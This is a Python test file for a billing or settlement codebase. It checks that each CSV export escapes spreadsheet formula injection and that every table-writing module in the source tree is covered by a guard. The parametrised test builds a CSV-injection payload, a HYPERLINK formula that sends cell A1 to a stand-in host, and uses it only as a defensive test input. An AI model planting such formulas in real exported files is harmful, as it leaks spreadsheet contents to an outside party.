"""S20: a name that a spreadsheet would compute comes out of every export as text."""

import csv
import io
import re
from dataclasses import replace
from datetime import UTC, datetime

import polars as pl
import pytest

from cases.write import safe
from settlement.reconciling import Kind
from statements import table
from statements.pack import Pack
from storage.reconciliations import Difference
from tasks.reconciling.export import to_csv
from tests.engineering.house import ROOT, packages, read, sources
from tests.statements.packed import make_pack

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
WRITES_A_TABLE = re.compile(
    r"csv\.(?:writer|DictWriter)\(|\.(?:write|sink)_(?:csv|parquet|excel|ipc|delta|avro)\("
)
EXPORTS = {
    "statements/table.py": "v2g statement --format csv",
    "tasks/reconciling/export.py": "v2g reconcile differences --csv",
    "cases/write.py": "v2g replay",
    "cli/comparisons.py": "v2g what-if --csv; its text columns go through cases.write.safe",
}
NO_EXPORTS = {"tasks/digests.py": "what a digest is taken of; written nowhere"}


@pytest.fixture(scope="module")
def pack() -> Pack:
    return make_pack()


def by_statement(pack: Pack, name: str) -> list[str]:
    renamed = replace(
        pack,
        unpaid=pack.unpaid.with_columns(vehicle_id=pl.lit(name), event_id=pl.lit(name)),
        bookings=(),
    )
    (row,) = csv.DictReader(io.StringIO(table.render(renamed).decode(), newline=""))
    return [row["vehicle_id"], row["event_id"]]


def by_reconciliation(name: str) -> list[str]:
    found = Difference(
        reconciliation_id="r", difference_id="d", partner=name, kind=Kind.FEE, posting_id=name,
        statement_id=None, number=None, account=name, currency="USD", ours_minor=-1,
        theirs_currency="USD", theirs_minor=0, at_stake_minor=1,
        noted_at=datetime(2026, 7, 1, tzinfo=UTC), detail=name,
    )  # fmt: skip
    text = to_csv([found]).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["ours"] == "-0.01"  # a number stays one
    return [row[column] for column in ("partner", "posting_id", "account", "detail")]


def by_frame(name: str) -> list[str]:
    written = pl.DataFrame({"a": [name]}).select(safe("a")).write_csv(line_terminator="\n")
    (row,) = csv.DictReader(io.StringIO(written, newline=""))
    return [row["a"]]


@pytest.mark.parametrize("sign", SIGNS)
def test_s20_a_formula_comes_out_of_every_table_as_text_and_is_read_back_whole(
    pack: Pack, sign: str
) -> None:
    name = f'{sign}HYPERLINK("http://x/?"&A1,"click")'
    cells = by_statement(pack, name) + by_reconciliation(name) + by_frame(name)
    assert set(cells) == {f"'{name}"}


def test_s20_whatever_writes_a_table_is_attacked_here() -> None:
    """No format but CSV is written, and whoever adds an export finds out here that it needs a guard."""
    tops = {one.split(".")[0] for one in packages()} - {"benchmarks", "simulators"}
    found = {
        path.relative_to(ROOT).as_posix()
        for path in sources(*sorted(tops))
        if WRITES_A_TABLE.search(read(path))
    }
    assert found == set(EXPORTS) | set(NO_EXPORTS)
